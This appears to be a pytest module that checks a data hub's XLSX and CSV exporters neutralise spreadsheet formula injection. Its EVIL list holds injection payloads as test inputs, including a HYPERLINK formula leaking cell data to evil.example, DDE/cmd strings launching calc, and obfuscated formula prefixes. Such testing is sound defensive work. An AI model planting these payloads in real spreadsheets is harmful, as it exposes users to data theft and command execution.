"""Nothing that leaves the hub is a live formula, whatever a department or a package wrote into it."""

import csv
import dataclasses
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.writers.form import FormWriter
from connectors.writers.quarantine import QuarantineWriter
from connectors.writers.xlsx import XlsxSettings, XlsxWriter
from hub_core.cli.finding import harmless, write_csv
from hub_core.contracts import DocumentReporter, Form, FormLine, Quarantine, QuarantinedRow
from hub_core.testing.connectors import written
from tests.connectors.writers.test_xlsx import telecom

EVIL = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink")',
    "{=1+1}",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "'=1+1",
    '"=1+1"',
    "a;=1+1",
    'a;"=1+1',
    "a\n-2+3",
    "a;\n=1+1",
    "http://evil.example",
]
SIGNS = tuple("=+-@＝＋－＠")
BLANKS = ' \t\r\n\u00a0\u200b\ufeff\x00"'  # and the quotes that another separator leaves


def release(text: str) -> bytes:
    """A release in which every word is this text; codes and figures are what they must be."""
    words = ("name_vi", "name_en", "unit", "org_unit_name", "dims", "coverage")
    document = telecom()
    figures = [
        dataclasses.replace(figure, **dict.fromkeys(words, text)) for figure in document.figures
    ]
    reporters = tuple(
        DocumentReporter(text, text, text, reporter.state) for reporter in document.reporters
    )
    manifest: dict[str, Any] = {
        **document.manifest,
        "reason": text,
        "figures_digest": text,
        "catalogue": text,
    }
    manifest["submissions"] = [
        dict.fromkeys(
            (
                "province",
                "provision",
                "dataflow",
                "period",
                "calendar",
                "revision",
                "content_digest",
            ),
            text,
        )
    ]
    told = dataclasses.replace(
        document,
        title=text,
        title_en=text,
        figures=figures,
        reporters=reporters,
        manifest=manifest,
        manifest_digest=text,
    )
    return written(XlsxWriter(XlsxSettings(issued_by=text)), told)


def quarantine(text: str) -> bytes:
    cells = {text: text, "Giá trị": text, "Ghi chú": "x"}
    row = QuarantinedRow(text, text, text, text, text, text, cells)
    told = Quarantine(text, text, text, text, "2026-Q3", 1, "2026-11-06T02:00+07:00", (row, row))
    return written(QuarantineWriter(QuarantineWriter.Settings()), told)


def form(text: str) -> bytes:
    line = FormLine("VT.03", text, text, "vn-x", text, (text, "thuê bao"), 0)
    named = dict.fromkeys(("title", "title_en", "province_name", "provider_name", "legal"), text)
    told = {
        "dataflow": "TELECOM",
        "province": "x",
        "provision": "telecom",
        "provider": "X.Y",
        "period": "2026-Q3",
    }
    made = Form(**told, **named, calendar="S", due="2026-10-05", lines=(line, line))
    return written(FormWriter(FormWriter.Settings()), made)


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("made", [release, quarantine, form])
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(made: Any, text: str) -> None:
    content = made(text)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        names = package.namelist()
        sheets = [
            package.read(name).decode() for name in names if name.startswith("xl/worksheets/")
        ]
    assert not [
        name for name in names if re.search("externalLink|connections|vba|activeX|embeddings", name)
    ]
    assert sheets
    for sheet in sheets:
        assert not re.search(r"<f[ >/]|<hyperlink|<oleObject", sheet)
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        # openpyxl itself takes a string that starts with = for a formula only where it was written
        # as one
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
        assert not [cell for cell in cells if cell.hyperlink]


def test_the_text_itself_stands_in_the_workbook() -> None:
    for text in ("=1+1", "@SUM(A1:A2)", "-1", "＝1+1"):
        sheet = openpyxl.load_workbook(io.BytesIO(quarantine(text))).worksheets[0]
        assert text in [cell.value for cell in sheet[9]]


# CSV


def starts_one(field: str) -> bool:
    return field.lstrip(BLANKS).startswith(SIGNS)


def read(path: Path, **how: Any) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [field for row in csv.reader(file, **how) for field in row]


def rows(text: str) -> list[dict[str, Any]]:
    names = ("province", "provision", "period", "code", "field", "text", "locator", "vi", "en")
    return [{**dict.fromkeys(names, text), "revision": 1}]


@pytest.mark.parametrize("text", EVIL)
def test_no_field_of_a_csv_starts_a_formula_wherever_it_is_split(text: str, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "q.csv", rows(text))
    for how in (
        {},
        {"delimiter": ";"},
        {"delimiter": "\t"},
        {"delimiter": ";", "quoting": csv.QUOTE_NONE},
    ):
        assert [field for field in read(path, **how) if starts_one(field)] == []
    assert [field for field in read(path) if field.startswith(("\t", "\r"))] == []


@given(st.text(alphabet=st.sampled_from("=+-@＝－\t\r\n;\"' \u00a0a1"), max_size=8))
def test_no_text_starts_a_formula(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([harmless(text), harmless("x" + text)])
    for how in ({}, {"delimiter": ";"}):
        told = csv.reader(io.StringIO(out.getvalue(), newline=""), **how)
        assert [field for row in told for field in row if starts_one(field)] == []


def test_a_harmless_text_stays_as_it_is() -> None:
    for text in (
        "",
        "1.702.330",
        "a-b",
        "x = y",
        "2026-Q3",
        "telecom.csv line 3 column Giá trị",
        "a; b",
    ):
        assert harmless(text) == text
    assert (harmless(None), harmless(3)) == ("", "3")
    assert harmless("-5") == "'-5"
